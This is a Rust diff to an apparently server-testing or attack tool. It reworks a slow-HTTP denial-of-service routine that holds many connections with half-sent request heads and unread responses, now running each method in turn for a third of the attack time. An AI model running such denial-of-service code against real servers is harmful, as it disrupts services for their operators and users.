@@ -5,7 +5,7 @@ use std::time::Duration;
 
 use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 use tokio::net::TcpStream;
-use tokio::time::{MissedTickBehavior, interval, sleep};
+use tokio::time::{MissedTickBehavior, interval, sleep, timeout};
 
 use super::attack::{Attack, crowd};
 use super::largest::largest;
@@ -29,17 +29,13 @@ pub(super) async fn run(attack: Arc<Attack>) {
     let host = attack.server.address;
     let head = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n");
     let whole = format!("{head}\r\n");
-    let heads = {
-        let attack = attack.clone();
-        let half = head.clone();
-        crowd(attack.many(HEADS), move |_| half_sent(attack.clone(), half.clone()))
-    };
-    let unread = {
-        let attack = attack.clone();
-        crowd(attack.many(UNREAD), move |_| unread(attack.clone(), whole.clone()))
-    };
-    let read = crowd(READERS, |_| read(attack.clone(), path.clone()));
-    tokio::join!(heads, unread, read);
+    // One way after the other, a third of the time each: together the cheapest would win.
+    let part = attack.time / 3;
+    let heads = crowd(attack.many(HEADS), |_| half_sent(attack.clone(), head.clone()));
+    let _ = timeout(part, heads).await;
+    let unread = crowd(attack.many(UNREAD), |_| unread(attack.clone(), whole.clone()));
+    let _ = timeout(part, unread).await;
+    crowd(READERS, |_| read(attack.clone(), path.clone())).await;
 }
 
 /// Begins a head, waits until the server has enough of it, and begins another.
@@ -67,7 +63,7 @@ async fn unread(attack: Arc<Attack>, whole: String) {
 }
 
 async fn begun(attack: &Attack, text: &str, window: Option<u32>) -> Result<TcpStream, ClientError> {
-    let mut stream = attack.dial(window).await?;
+    let mut stream = attack.dial(attack.server.from, window).await?;
     stream.write_all(text.as_bytes()).await?;
     Ok(stream)
 }
